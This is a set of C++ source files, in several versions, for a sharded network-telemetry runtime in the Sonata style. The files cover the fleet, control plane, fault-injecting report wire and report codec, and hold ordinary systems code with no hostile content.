    obs::Gauge* state_gauge = nullptr;
    obs::Gauge* state_bytes_gauge = nullptr;
    obs::Gauge* state_error_gauge = nullptr;  // summed eps*weight over sketched ops
    LatencyTally latency;                     // ingest -> delivery, this window
    obs::Histogram* latency_hist = nullptr;
  };
  struct QueryState {
    const planner::PlannedQuery* pq = nullptr;
    std::vector<LevelExec> levels;  // chain order (coarse -> fine)
    obs::Counter* winners_counter = nullptr;
  };

  // The LevelExec behind executor(qid, level); nullptr on unknown pairs
  // (only the wire delivery path can present one — see deliver()).
  [[nodiscard]] LevelExec* level_exec(query::QueryId qid, int level) noexcept;
  // Pipelines kept at the stream processor (partition == 0), needing the
  // raw mirror: (qid, level, source).
  struct RawFeed {
    query::QueryId qid;
    int level;
    int source_index;
  };

  const planner::Plan* plan_;
  std::vector<QueryState> queries_;
  std::vector<RawFeed> raw_feeds_;
  Emitter emitter_;
  std::uint64_t delivery_now_ = 0;  // see begin_delivery()
  WinnerSink winner_sink_;          // see set_winner_sink()
};

}  // namespace sonata::runtime
