// Network-wide telemetry: one plan deployed on a fleet of switches that
// each observe a share of the traffic, with a single stream processor
// merging their state (paper §8's first future-work item; cf. the authors'
// follow-up on network-wide heavy-hitter detection with commodity
// switches).
//
// The merge falls out of Sonata's overflow-correction design: every
// switch's end-of-window register poll re-enters the shared stream
// executors *at the reduce* as deltas, so per-switch partial aggregates
// combine exactly. A key whose count stays below threshold on every single
// switch is still detected when the network-wide sum crosses it — the
// headline capability of network-wide telemetry. Dynamic-refinement winner
// keys are computed once (over merged state) and installed on every
// switch.
//
// Threading model (DESIGN.md "Parallel fleet execution"). Each switch is a
// *shard*: the switch itself, a bounded SPSC ingest queue fed by the
// driver thread, and a per-window emit arena (mirrored records, raw
// mirror tuples, counters) written only by the shard's worker. With
// `worker_threads == 0` shards execute inline in the caller; otherwise
// shard i is pinned to worker i % worker_threads and the per-switch hot
// path (parse -> match-action -> register updates -> emit) runs
// concurrently during the window. close_window() is the barrier: the
// driver waits until every queue is drained, then merges shard buffers in
// ascending switch order — the same order the inline path produces — so
// results and tuple counts are bit-identical for any thread count.
//
// Batching (DESIGN.md "Data-path memory model"). The driver accumulates up
// to `batch_size` packets per shard before handing them over; the handoff
// moves the whole run through the SPSC ring with one acquire/release pair
// and at most one worker wakeup, and the worker processes the run with one
// Switch::process_batch call into the shard's emit arena. Per-shard packet
// order — and therefore the merged output — is identical for every batch
// size; `batch_size == 1` degenerates to the original per-packet path and
// is kept as the equivalence baseline.
//
// Fault injection & graceful degradation (DESIGN.md "Fault model &
// degradation"). With a FaultSpec configured the fleet can corrupt the
// report wire (merged records round-trip the report codec through a
// WireChannel), slow or stall workers, and — when a per-window watchdog
// budget is set — survive a stalled shard: the barrier times out, the
// shard is quarantined for the window (its contribution skipped, its bit
// cleared in WindowStats::contribution_mask, its packets counted late),
// and the merge completes partial. The quarantined worker later re-syncs:
// it discards the condemned ring contents, clears its emit arena, and
// resets its switch registers, so the next window starts from clean state.
// Ingest sheds packets (counted) instead of spinning once a ring stays
// full past the watchdog budget. With no spec configured every hook is a
// single null check — the fault path costs nothing when disabled.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <memory>
#include <mutex>
#include <span>
#include <thread>
#include <vector>

#include "fault/fault.h"
#include "net/packet.h"
#include "pisa/switch.h"
#include "planner/planner.h"
#include "query/tuple.h"
#include "runtime/engine.h"
#include "runtime/spsc_queue.h"
#include "runtime/stream_processor.h"
#include "runtime/wire_channel.h"

namespace sonata::runtime {

class Fleet final : public TelemetryEngine {
 public:
  // Deploys `plan` on `switch_count` identical switches, processed by
  // `worker_threads` workers (0 = inline in the calling thread; capped at
  // `switch_count` since a switch is single-consumer). `batch_size` is the
  // per-shard handoff granularity; 1 is the legacy per-packet path. The
  // plan's base queries must outlive the Fleet. `faults` configures
  // deterministic fault injection (default: none — hooks compile to null
  // checks); a stall requires faults.watchdog_ms > 0, and worker
  // stalls/slowdowns only apply in threaded mode.
  // `pin_workers` pins worker i to allowed core i % cores (NUMA-local by
  // construction: a worker allocates its working set from the core it runs
  // on, and first-touch places the pages on that core's node).
  Fleet(planner::Plan plan, std::size_t switch_count, std::size_t worker_threads = 0,
        std::size_t batch_size = 1, fault::FaultSpec faults = {}, bool pin_workers = false);
  ~Fleet() override;

  [[nodiscard]] std::size_t size() const noexcept { return shards_.size(); }
  [[nodiscard]] std::size_t worker_threads() const noexcept { return workers_.size(); }
  // Workers successfully pinned to a core (0 unless pin_workers was set).
  [[nodiscard]] std::size_t pinned_workers() const noexcept {
    return pinned_workers_.load(std::memory_order_relaxed);
  }

  // Ingest a packet at a specific ingress switch.
  void ingest_at(std::size_t switch_index, const net::Packet& packet);

  // Default routing: hash the flow 5-tuple onto a switch (models ECMP-like
  // traffic spread across ingress points). Thread-count independent.
  void ingest(const net::Packet& packet) override;

  [[nodiscard]] const planner::Plan& plan() const noexcept override { return plan_; }
  [[nodiscard]] std::size_t data_plane_count() const noexcept override { return shards_.size(); }
  [[nodiscard]] const pisa::Switch& data_plane(std::size_t i) const override {
    return *shards_.at(i)->sw;
  }
  [[nodiscard]] const Emitter& emitter() const noexcept override { return sp_->emitter(); }

 protected:
  // Close the window fleet-wide: drain every shard queue (the window
  // barrier), merge shard outputs in switch order, poll every switch,
  // refine, reset. Aggregated stats (packets/tuples summed over switches).
  WindowStats do_close_window() override;
  // Control-plane swap at the window barrier: reinstall every shard's
  // switch program (unchanged compiled pipelines are reused per shard) and
  // rebuild the shared stream processor. Waits out any in-flight worker
  // resync first — workers only touch their switch during a quarantine
  // resync, and the swap must not race it. Register-pressure faults are
  // not re-applied; a swap installs clean.
  void apply_plan(planner::Plan plan) override;

 private:
  // Ring sized for a healthy window burst; the driver spins (yield + wake)
  // when a shard falls this far behind.
  static constexpr std::size_t kQueueCapacity = 1024;

  // Compute granularity inside a handed-off batch: materialize-then-process
  // runs of this many tuples so the working set stays L1-resident (a full
  // 256-packet batch of ~16-value tuples is ~64 KB — materializing it all
  // before processing evicts every tuple before the pipelines read it).
  // Purely an internal locality knob: per-packet order, and therefore
  // output, is unchanged.
  static constexpr std::size_t kProcessChunk = 16;

  struct Shard {
    std::size_t index = 0;  // switch index (stall schedules key on it)
    std::unique_ptr<pisa::Switch> sw;
    SpscQueue<net::Packet> queue{kQueueCapacity};

    // Driver-side batch state. Inline mode (no workers) materializes into
    // the first `tuples_pending` tuple_scratch slots; threaded mode stages
    // packets directly into ring slots and only counts them here. Both
    // flush at batch_size_ and at the barrier.
    std::size_t tuples_pending = 0;
    std::size_t staged_count = 0;

    // Written only by the shard's worker between barriers; read and cleared
    // by the driver thread after the barrier (publication via `drained`).
    pisa::EmitSink sink;                       // mirrored records, arrival order
    std::vector<query::Tuple> raw_sources;     // raw-mirror tuples, arrival order
    std::uint64_t tuples_to_sp = 0;
    std::uint64_t raw_mirror_packets = 0;

    // Worker-side tuple slots, reused chunk to chunk (no hot-path
    // allocation once warm). The batched drain itself is zero-copy:
    // workers process packets in place in the ring slots.
    std::vector<query::Tuple> tuple_scratch;

    std::uint64_t enqueued = 0;                // driver-only
    std::atomic<std::uint64_t> drained{0};     // worker-written (release)

    // Quarantine protocol (watchdog degradation). Non-zero = the driver
    // timed this shard out at a window barrier; the worker must discard
    // ring contents up to this enqueue count, wipe its emit arena, reset
    // its switch registers, and CAS the cell back to zero. The CAS (rather
    // than a plain store) closes the race where the driver re-quarantines
    // with a larger target while the worker is finishing an older one.
    std::atomic<std::uint64_t> resync_to{0};
    std::uint64_t barrier_mark = 0;  // driver-only: enqueued at last barrier
    bool shedding = false;           // driver-only: ring stayed full past budget

    // Worker-side phase clock (ingest/compute), single-writer like the
    // emit arena: published to the driver by the same release/acquire
    // pair as `drained`, merged and reset at the window barrier.
    obs::PhaseAccum phases;

    // Parallel window close (DESIGN.md "Parallel window merge"). The driver
    // raises close_req at the barrier; the shard's worker polls its stateful
    // tails into `partials` (one slot per pipeline, registers' deterministic
    // entries() order), resets its registers, and raises close_done. The
    // driver's acquire load of close_done publishes `partials` and the
    // switch stats the same way `drained` publishes the emit arena.
    std::vector<pisa::CompiledSwitchQuery::PolledPartial> partials;
    std::atomic<std::uint8_t> close_req{0};
    std::atomic<std::uint8_t> close_done{0};

    // Registry handles, resolved once at construction (self-gated on
    // obs::enabled, so they cost one branch when observability is off).
    obs::Counter* packets_ctr = nullptr;   // packets handed to this shard
    obs::Counter* stalls_ctr = nullptr;    // ring-full backpressure events
    obs::Histogram* ring_depth = nullptr;  // queue occupancy at batch publish
  };

  struct Worker {
    std::mutex mutex;
    std::condition_variable cv;
    // Wake elision (Dekker handshake): the producer's seq_cst store of
    // `signal` followed by its load of `asleep` pairs with the consumer's
    // seq_cst store of `asleep` followed by its load of `signal` — at least
    // one side sees the other, so the mutex+notify is only paid when the
    // worker is actually parked (or racing to park).
    std::atomic<bool> signal{false};
    std::atomic<bool> asleep{false};
    std::vector<Shard*> shards;
    Backoff backoff;  // worker-thread-owned idle backoff
    std::thread thread;
  };

  // The per-switch data-plane hot path for one batch; runs on the shard's
  // worker (or the driver thread when worker_threads == 0). Consumes
  // `packets` (tuples may be moved out for the raw mirror).
  void process_batch_on_shard(Shard& shard, std::span<const net::Packet> packets);
  // Run already-materialized tuples through the shard's pipelines into its
  // emit arena, with per-batch tuple accounting. Consumes `tuples` in raw-
  // mirror plans (moved into the shard's raw buffer). When `ingest_ns` is
  // nonzero every record this call appends is stamped with it (report
  // latency); callers read the clock once per timed run, not per chunk.
  void process_tuples_on_shard(Shard& shard, std::span<query::Tuple> tuples,
                               std::uint64_t ingest_ns = 0);
  // The pre-batching per-packet hot path, active when batch_size == 1 (the
  // equivalence baseline for the batched path).
  void process_legacy_on_shard(Shard& shard, const net::Packet& packet);
  // Hand a shard's pending batch to its worker (or process it inline).
  void flush_shard(std::size_t shard_index);
  void worker_loop(Worker& w);
  void wake(Worker& w);
  void drain_barrier();

  // Shard-local close phase: poll every stateful tail into shard.partials
  // and reset the switch registers. Runs on the shard's worker in threaded
  // mode, on the driver for inline/stalled shards — one code path, so
  // outputs are trivially identical.
  void do_shard_close(Shard& shard);
  // Driver-side combine: fold all participating shards' partials key-wise
  // (first-appearance order across ascending shard index — exactly the
  // order serial per-shard polling fed the executors) and ingest the merged
  // aggregates once per pipeline.
  void combine_partials();

  // Worker-side quarantine recovery: if the driver condemned this shard,
  // discard the condemned ring prefix, wipe the emit arena, reset the
  // switch, and re-arm. Returns true when a resync ran.
  bool maybe_resync(Shard& shard);
  // Is this shard's worker stalled for the currently published window?
  [[nodiscard]] bool stalled(const Shard& shard) const noexcept;
  // Account one packet shed at ingest (ring full past the watchdog budget).
  void shed_packet(Shard& shard);
  [[nodiscard]] std::uint64_t full_contribution_mask() const noexcept {
    return shards_.size() >= 64 ? ~0ull : ((1ull << shards_.size()) - 1);
  }

  planner::Plan plan_;
  // unique_ptr (not a value) so a control-plane swap can rebuild it; sp_
  // holds pointers into plan_, so it is reset before plan_ is replaced.
  std::unique_ptr<StreamProcessor> sp_;
  bool raw_mirror_ = false;  // sp_->wants_raw_mirror(), cached for workers
  std::size_t batch_size_ = 1;

  // Fault injection (null/empty when no spec is configured — every hook on
  // the hot path is then one pointer test).
  std::unique_ptr<fault::Injector> injector_;
  std::unique_ptr<WireChannel> wire_;
  fault::FaultAccount last_account_;        // driver-only, for per-window deltas
  std::vector<std::uint8_t> quarantined_;   // driver-only, reset every window

  std::vector<std::unique_ptr<Shard>> shards_;
  std::vector<std::unique_ptr<Worker>> workers_;
  std::atomic<bool> stop_{false};

  bool pin_workers_ = false;
  std::atomic<std::size_t> pinned_workers_{0};

  WindowStats current_;
  obs::PhaseAccum driver_phases_;  // merge/poll/close (+ inline compute)
  Backoff driver_backoff_;         // driver-thread spin-wait escalation
  std::uint64_t driver_flushed_yields_ = 0;  // backoff tallies already published
  std::uint64_t driver_flushed_sleeps_ = 0;
  obs::Counter* wakeups_ctr_ = nullptr;
  obs::Counter* backoffs_ctr_ = nullptr;  // spin-wait yield escalations
  obs::Counter* sleeps_ctr_ = nullptr;    // spin-wait sleep escalations
  obs::Counter* partial_windows_ctr_ = nullptr;
  std::uint64_t window_counter_ = 0;
  // Window index visible to workers (stall schedules are window-keyed);
  // published at the end of every close_window.
  std::atomic<std::uint64_t> window_pub_{0};
};

}  // namespace sonata::runtime
