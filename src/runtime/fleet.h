// Network-wide telemetry: one plan deployed on a fleet of switches that
// each observe a share of the traffic, with a single stream processor
// merging their state (paper §8's first future-work item; cf. the authors'
// follow-up on network-wide heavy-hitter detection with commodity
// switches).
//
// The merge falls out of Sonata's overflow-correction design: every
// switch's end-of-window register poll re-enters the shared stream
// executors *at the reduce* as deltas, so per-switch partial aggregates
// combine exactly. A key whose count stays below threshold on every single
// switch is still detected when the network-wide sum crosses it — the
// headline capability of network-wide telemetry. Dynamic-refinement winner
// keys are computed once (over merged state) and installed on every
// switch.
//
// Threading model (DESIGN.md "Parallel fleet execution"). Each switch is a
// *shard*: the switch itself, a bounded SPSC ingest queue fed by the
// driver thread, and per-window output buffers (mirrored records, raw
// mirror tuples, counters) written only by the shard's worker. With
// `worker_threads == 0` shards execute inline in the caller; otherwise
// shard i is pinned to worker i % worker_threads and the per-switch hot
// path (parse -> match-action -> register updates -> emit) runs
// concurrently during the window. close_window() is the barrier: the
// driver waits until every queue is drained, then merges shard buffers in
// ascending switch order — the same order the inline path produces — so
// results and tuple counts are bit-identical for any thread count.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

#include "pisa/switch.h"
#include "planner/planner.h"
#include "runtime/engine.h"
#include "runtime/spsc_queue.h"
#include "runtime/stream_processor.h"

namespace sonata::runtime {

class Fleet final : public TelemetryEngine {
 public:
  // Deploys `plan` on `switch_count` identical switches, processed by
  // `worker_threads` workers (0 = inline in the calling thread; capped at
  // `switch_count` since a switch is single-consumer). The plan's base
  // queries must outlive the Fleet.
  Fleet(planner::Plan plan, std::size_t switch_count, std::size_t worker_threads = 0);
  ~Fleet() override;

  [[nodiscard]] std::size_t size() const noexcept { return shards_.size(); }
  [[nodiscard]] std::size_t worker_threads() const noexcept { return workers_.size(); }

  // Ingest a packet at a specific ingress switch.
  void ingest_at(std::size_t switch_index, const net::Packet& packet);

  // Default routing: hash the flow 5-tuple onto a switch (models ECMP-like
  // traffic spread across ingress points). Thread-count independent.
  void ingest(const net::Packet& packet) override;

  // Close the window fleet-wide: drain every shard queue (the window
  // barrier), merge shard outputs in switch order, poll every switch,
  // refine, reset. Aggregated stats (packets/tuples summed over switches).
  WindowStats close_window() override;

  [[nodiscard]] const planner::Plan& plan() const noexcept override { return plan_; }
  [[nodiscard]] std::size_t data_plane_count() const noexcept override { return shards_.size(); }
  [[nodiscard]] const pisa::Switch& data_plane(std::size_t i) const override {
    return *shards_.at(i)->sw;
  }
  [[nodiscard]] const Emitter& emitter() const noexcept override { return sp_.emitter(); }

 private:
  // Ring sized for a healthy window burst; the driver spins (yield + wake)
  // when a shard falls this far behind.
  static constexpr std::size_t kQueueCapacity = 1024;

  struct Shard {
    std::unique_ptr<pisa::Switch> sw;
    SpscQueue<net::Packet> queue{kQueueCapacity};

    // Written only by the shard's worker between barriers; read and cleared
    // by the driver thread after the barrier (publication via `drained`).
    std::vector<pisa::EmitRecord> records;     // mirrored records, arrival order
    std::vector<query::Tuple> raw_sources;     // raw-mirror tuples, arrival order
    std::uint64_t tuples_to_sp = 0;
    std::uint64_t raw_mirror_packets = 0;

    std::uint64_t enqueued = 0;                // driver-only
    std::atomic<std::uint64_t> drained{0};     // worker-written (release)
  };

  struct Worker {
    std::mutex mutex;
    std::condition_variable cv;
    bool signal = false;  // guarded by mutex
    std::vector<Shard*> shards;
    std::thread thread;
  };

  // The per-switch data-plane hot path; runs on the shard's worker (or the
  // driver thread when worker_threads == 0).
  void process_on_shard(Shard& shard, const net::Packet& packet);
  void worker_loop(Worker& w);
  void wake(Worker& w);
  void drain_barrier();

  planner::Plan plan_;
  StreamProcessor sp_;
  bool raw_mirror_ = false;  // sp_.wants_raw_mirror(), cached for workers

  std::vector<std::unique_ptr<Shard>> shards_;
  std::vector<std::unique_ptr<Worker>> workers_;
  std::atomic<bool> stop_{false};

  WindowStats current_;
  std::uint64_t window_counter_ = 0;
};

}  // namespace sonata::runtime
