// Network-wide telemetry: one plan deployed on a fleet of switches that
// each observe a share of the traffic, with a single stream processor
// merging their state (paper §8's first future-work item; cf. the authors'
// follow-up on network-wide heavy-hitter detection with commodity
// switches).
//
// The merge falls out of Sonata's overflow-correction design: every
// switch's end-of-window register poll re-enters the shared stream
// executors *at the reduce* as deltas, so per-switch partial aggregates
// combine exactly. A key whose count stays below threshold on every single
// switch is still detected when the network-wide sum crosses it — the
// headline capability of network-wide telemetry. Dynamic-refinement winner
// keys are computed once (over merged state) and installed on every
// switch.
#pragma once

#include <cstdint>
#include <memory>
#include <span>
#include <vector>

#include "pisa/switch.h"
#include "planner/planner.h"
#include "runtime/runtime.h"

namespace sonata::runtime {

class Fleet {
 public:
  // Deploys `plan` on `switch_count` identical switches. The plan's base
  // queries must outlive the Fleet.
  Fleet(planner::Plan plan, std::size_t switch_count);

  [[nodiscard]] std::size_t size() const noexcept { return switches_.size(); }

  // Ingest a packet at a specific ingress switch.
  void ingest_at(std::size_t switch_index, const net::Packet& packet);

  // Default routing: hash the flow 5-tuple onto a switch (models ECMP-like
  // traffic spread across ingress points).
  void ingest(const net::Packet& packet);

  // Close the window fleet-wide: poll every switch, merge at the stream
  // processor, refine, reset. Aggregated stats (packets/tuples summed over
  // switches).
  WindowStats close_window();

  std::vector<WindowStats> run_trace(std::span<const net::Packet> trace);

  [[nodiscard]] const pisa::Switch& data_plane(std::size_t i) const { return *switches_.at(i); }
  [[nodiscard]] const planner::Plan& plan() const noexcept { return plan_; }

 private:
  stream::QueryExecutor& executor(query::QueryId qid, int level);
  [[nodiscard]] int remap_source(query::QueryId qid, int level, int source_index) const;

  planner::Plan plan_;
  std::vector<std::unique_ptr<pisa::Switch>> switches_;

  struct LevelExec {
    int level = planner::kFinestIpLevel;
    std::unique_ptr<stream::QueryExecutor> exec;
  };
  struct QueryState {
    const planner::PlannedQuery* pq = nullptr;
    std::vector<LevelExec> levels;
  };
  std::vector<QueryState> queries_;
  struct RawFeed {
    query::QueryId qid;
    int level;
    int source_index;
  };
  std::vector<RawFeed> raw_feeds_;

  WindowStats current_;
  std::uint64_t window_counter_ = 0;
  std::vector<pisa::EmitRecord> scratch_;
};

}  // namespace sonata::runtime
