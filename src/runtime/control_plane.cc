#include "runtime/control_plane.h"

#include <utility>

#include "obs/journal.h"

namespace sonata::runtime {

using planner::AdmissionDiagnostic;

ControlPlane::ControlPlane(planner::PlannerConfig cfg,
                           std::vector<planner::TupleWindow> training)
    : planner_(std::move(cfg), std::move(training)) {
  auto& reg = obs::Registry::global();
  accepted_ctr_ = &reg.counter("sonata_admission_accepted_total");
  rejected_ctr_ = &reg.counter("sonata_admission_rejected_total");
  withdrawn_ctr_ = &reg.counter("sonata_admission_withdrawn_total");
}

void ControlPlane::define_tenant(std::string_view name, planner::TenantBudget budget) {
  planner_.define_tenant(name, budget);
  publish_tenant_gauges(name);
}

void ControlPlane::publish_tenant_gauges(std::string_view tenant) {
  if (!obs::enabled()) return;
  const planner::TenantUsage usage = planner_.tenant_usage(tenant);
  const std::pair<std::string_view, std::string> labels[] = {
      {"tenant", std::string(tenant.empty() ? std::string_view{"default"} : tenant)}};
  auto& reg = obs::Registry::global();
  reg.gauge(obs::labeled("sonata_tenant_stage_tables", labels))
      .set(static_cast<std::int64_t>(usage.stage_tables));
  reg.gauge(obs::labeled("sonata_tenant_register_bits", labels))
      .set(static_cast<std::int64_t>(usage.register_bits));
  reg.gauge(obs::labeled("sonata_tenant_queries", labels))
      .set(static_cast<std::int64_t>(usage.queries));
}

util::Expected<planner::AdmitId, AdmissionDiagnostic> ControlPlane::submit(
    query::Query q, std::string_view tenant) {
  if (q.root() == nullptr) {
    AdmissionDiagnostic d;
    d.code = AdmissionDiagnostic::Code::kValidation;
    d.tenant = std::string(tenant);
    d.message = "query \"" + q.name() + "\" has no operator tree";
    rejected_ctr_->add(1);
    // Admissions have no window context; window_id 0 marks control-plane
    // events that land between windows.
    obs::Journal::global().emit(obs::EventType::kAdmissionRejected, 0, 0, 0,
                                static_cast<std::int64_t>(d.code), 0, 0, q.name());
    return d;
  }
  // Idempotent for already-validated queries; a DSL front-end hands us
  // validated ones, but programmatic callers may not have bothered.
  if (const std::string err = q.validate(); !err.empty()) {
    AdmissionDiagnostic d;
    d.code = AdmissionDiagnostic::Code::kValidation;
    d.tenant = std::string(tenant);
    d.message = "query \"" + q.name() + "\": " + err;
    rejected_ctr_->add(1);
    obs::Journal::global().emit(obs::EventType::kAdmissionRejected, 0, 0, 0,
                                static_cast<std::int64_t>(d.code), 0, 0, q.name());
    return d;
  }
  storage_.push_back(std::move(q));
  const auto it = std::prev(storage_.end());
  auto admitted = planner_.admit(*it, tenant);
  if (!admitted) {
    const std::string rejected_name = it->name();
    storage_.erase(it);
    rejected_ctr_->add(1);
    obs::Journal::global().emit(obs::EventType::kAdmissionRejected, 0, 0, 0,
                                static_cast<std::int64_t>(admitted.error().code), 0, 0,
                                rejected_name);
    return admitted.error();
  }
  owned_.emplace(*admitted, it);
  dirty_ = true;
  accepted_ctr_->add(1);
  obs::Journal::global().emit(obs::EventType::kAdmissionAccepted, 0, *admitted, 0, 0, 0, 0,
                              it->name());
  publish_tenant_gauges(tenant);
  return *admitted;
}

util::Expected<util::Ok, AdmissionDiagnostic> ControlPlane::withdraw(planner::AdmitId id) {
  const auto it = owned_.find(id);
  if (it == owned_.end()) {
    AdmissionDiagnostic d;
    d.code = AdmissionDiagnostic::Code::kUnknownHandle;
    d.message = "handle " + std::to_string(id) + " is not an active query";
    return d;
  }
  const std::string tenant{planner_.tenant_of(id)};
  auto result = planner_.withdraw(id);
  if (!result) return result.error();
  // The outgoing plan's pipelines still reference this query's stream
  // nodes; park it until the engine has swapped the plan out.
  retired_.splice(retired_.end(), storage_, it->second);
  owned_.erase(it);
  dirty_ = true;
  withdrawn_ctr_->add(1);
  obs::Journal::global().emit(obs::EventType::kAdmissionWithdrawn, 0, id, 0, 0, 0, 0, tenant);
  publish_tenant_gauges(tenant);
  return util::Ok{};
}

std::optional<planner::AdmitId> ControlPlane::find(std::string_view name) const {
  for (const auto& [id, it] : owned_) {
    if (it->name() == name) return id;
  }
  return std::nullopt;
}

planner::Plan ControlPlane::take_snapshot() {
  dirty_ = false;
  return planner_.snapshot_plan();
}

}  // namespace sonata::runtime
