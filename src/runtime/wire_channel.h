// The faulty wire between a switch's monitoring port and the stream
// processor (DESIGN.md "Fault model & degradation").
//
// When wire faults are configured, every mirrored EmitRecord is
// round-tripped through the report codec — encode_report, fault mutation,
// decode_report — before delivery, so corruption and truncation exercise
// the decoder's bounds checks end-to-end on real traffic, not just in the
// report_test fuzzers. A record can be dropped, duplicated, corrupted
// (bit flip), truncated, or held past its successor (reorder); mutated
// bytes rejected by the decoder OR by the stream processor's routing
// boundary (decoded fine, routes nowhere — `deliver` returned false) are
// counted as decode_failures, mutated bytes that decode and route are
// counted as corrupted_delivered (bad data reached the stream processor —
// the nastiest case).
//
// The `deliver` callback must return bool: whether the stream processor
// accepted the record.
//
// Drivers own one channel and use it only on the merge thread, so the
// injector's wire decisions stay deterministic in delivery order. The held
// (reordered) record is released after the next transmit, or by flush() at
// the window close — reordering never crosses a window boundary.
#pragma once

#include <cstddef>
#include <optional>
#include <utility>
#include <vector>

#include "fault/fault.h"
#include "pisa/switch.h"
#include "runtime/report.h"

namespace sonata::runtime {

class WireChannel {
 public:
  explicit WireChannel(fault::Injector& injector) : injector_(&injector) {}

  // Push one record through the wire; `deliver` is invoked with every
  // record that survives (0, 1, or 2 times), including a previously held
  // record once its successor has gone through.
  template <typename Deliver>
  void transmit(const pisa::EmitRecord& rec, Deliver&& deliver) {
    const bool had_held = held_.has_value();
    send(rec, deliver);
    if (had_held) {
      pisa::EmitRecord delayed = std::move(*held_);
      held_.reset();
      deliver(std::move(delayed));
    }
  }

  // Release a still-held record at the end of the window's merge.
  template <typename Deliver>
  void flush(Deliver&& deliver) {
    if (held_) {
      pisa::EmitRecord delayed = std::move(*held_);
      held_.reset();
      deliver(std::move(delayed));
    }
  }

 private:
  template <typename Deliver>
  void send(const pisa::EmitRecord& rec, Deliver&& deliver) {
    bytes_ = encode_report(rec);
    const fault::WireOutcome out = injector_->apply_wire(bytes_, !held_.has_value());
    switch (out.kind) {
      case fault::WireOutcome::Kind::kDrop:
        return;
      case fault::WireOutcome::Kind::kHold:
        // The reordered record skips the codec mutation path: it is a pure
        // ordering fault, delivered verbatim one record late.
        held_ = rec;
        return;
      case fault::WireOutcome::Kind::kDuplicate: {
        auto first = decode_report(bytes_);
        auto second = decode_report(bytes_);
        if (!first || !second) {  // unmutated bytes always decode
          injector_->note_decode_failure();
          return;
        }
        deliver(std::move(*first));
        deliver(std::move(*second));
        return;
      }
      case fault::WireOutcome::Kind::kDeliver: {
        auto decoded = decode_report(bytes_);
        if (!decoded) {
          injector_->note_decode_failure();
          return;
        }
        // A corrupted header can decode into a record that routes nowhere
        // (unknown query/level, out-of-range source); the stream processor
        // rejects those at its delivery boundary and they count as decode
        // failures too — the report was unusable, just at a later stage.
        if (!deliver(std::move(*decoded))) {
          injector_->note_decode_failure();
          return;
        }
        if (out.mutated) injector_->note_corrupted_delivered();
        return;
      }
    }
  }

  fault::Injector* injector_;
  std::optional<pisa::EmitRecord> held_;
  std::vector<std::byte> bytes_;  // reused encode buffer
};

}  // namespace sonata::runtime
