// Wire format for mirrored report packets (paper §5, Figure 6): the switch
// embeds the query identifier and the query-specific intermediate results
// in the mirrored packet; the emitter parses them by qid and forwards
// tuples to the stream processor.
//
// Layout (big endian):
//   magic   u16  = 0x50A7 ("SONATA")
//   kind    u8   (EmitRecord::Kind)
//   qid     u16
//   source  u8
//   level   u16  (0xffff encodes level -1; never used in practice)
//   op      u16  (operator index where the tuple re-enters the SP chain)
//   ncols   u8
//   per column:
//     tag   u8   0 = uint64, 1 = string
//     uint64: value u64
//     string: len u16, bytes
//
// decode_report is fully bounds-checked: truncated or corrupted reports
// yield nullopt, never a crash (fuzzed in report_test).
#pragma once

#include <cstddef>
#include <optional>
#include <span>
#include <vector>

#include "pisa/switch.h"

namespace sonata::runtime {

inline constexpr std::uint16_t kReportMagic = 0x50A7;

[[nodiscard]] std::vector<std::byte> encode_report(const pisa::EmitRecord& record);

// Append-into variant for callers that batch many reports into one buffer
// (the multi-process transport frames several reports per kRecords frame).
void encode_report_into(const pisa::EmitRecord& record, std::vector<std::byte>& out);

[[nodiscard]] std::optional<pisa::EmitRecord> decode_report(std::span<const std::byte> data);

// Bare-tuple codec with the report codec's column encoding (tag u8 then
// u64 / len-prefixed string), for the raw-mirror and polled-partial
// payloads of the distributed deployment: ncols u8, then the columns.
// decode_tuple expects exactly one tuple in `data` (trailing bytes fail).
void encode_tuple(const query::Tuple& tuple, std::vector<std::byte>& out);
[[nodiscard]] std::optional<query::Tuple> decode_tuple(std::span<const std::byte> data);

}  // namespace sonata::runtime
