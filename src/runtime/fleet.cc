#include "runtime/fleet.h"

#include <cassert>

#include "util/hash.h"

namespace sonata::runtime {

using planner::PlannedPipeline;
using planner::PlannedQuery;
using query::Tuple;

Fleet::Fleet(planner::Plan plan, std::size_t switch_count) : plan_(std::move(plan)) {
  assert(switch_count >= 1);
  // Shared stream executors, exactly as in Runtime.
  for (const PlannedQuery& pq : plan_.queries) {
    QueryState qs;
    qs.pq = &pq;
    for (const int level : pq.chain) {
      LevelExec le;
      le.level = level;
      le.exec = std::make_unique<stream::QueryExecutor>(pq.exec_queries.at(level));
      qs.levels.push_back(std::move(le));
    }
    queries_.push_back(std::move(qs));
    for (const PlannedPipeline& p : pq.pipelines) {
      if (p.partition == 0) raw_feeds_.push_back({p.qid, p.level, p.source_index});
    }
  }

  // One identical switch program per ingress point.
  for (std::size_t i = 0; i < switch_count; ++i) {
    auto sw = std::make_unique<pisa::Switch>(plan_.switch_config);
    std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> pipelines;
    std::vector<pisa::ProgramResources> resources;
    for (const PlannedQuery& pq : plan_.queries) {
      for (const PlannedPipeline& p : pq.pipelines) {
        if (p.partition == 0) continue;
        pisa::CompiledSwitchQuery::Options opts;
        opts.qid = p.qid;
        opts.source_index = p.source_index;
        opts.level = p.level;
        opts.partition = p.partition;
        opts.sizing = p.sizing;
        pipelines.push_back(std::make_unique<pisa::CompiledSwitchQuery>(*p.node, opts));
        resources.push_back(pisa::build_resources(*p.node, p.partition, p.sizing, p.qid,
                                                  p.source_index, p.level));
      }
    }
    const std::string err = sw->install(std::move(pipelines), resources);
    assert(err.empty() && "plan does not fit the switch it was planned for");
    (void)err;
    switches_.push_back(std::move(sw));
  }
}

int Fleet::remap_source(query::QueryId qid, int level, int source_index) const {
  for (const auto& qs : queries_) {
    if (qs.pq->base->id() != qid) continue;
    const auto it = qs.pq->source_remap.find(level);
    if (it == qs.pq->source_remap.end()) return source_index;
    return it->second.at(static_cast<std::size_t>(source_index));
  }
  return source_index;
}

stream::QueryExecutor& Fleet::executor(query::QueryId qid, int level) {
  for (auto& qs : queries_) {
    if (qs.pq->base->id() != qid) continue;
    for (auto& le : qs.levels) {
      if (le.level == level) return *le.exec;
    }
  }
  assert(false && "no executor for (qid, level)");
  __builtin_unreachable();
}

void Fleet::ingest_at(std::size_t switch_index, const net::Packet& packet) {
  ++current_.packets;
  const Tuple source = query::materialize_tuple(packet);
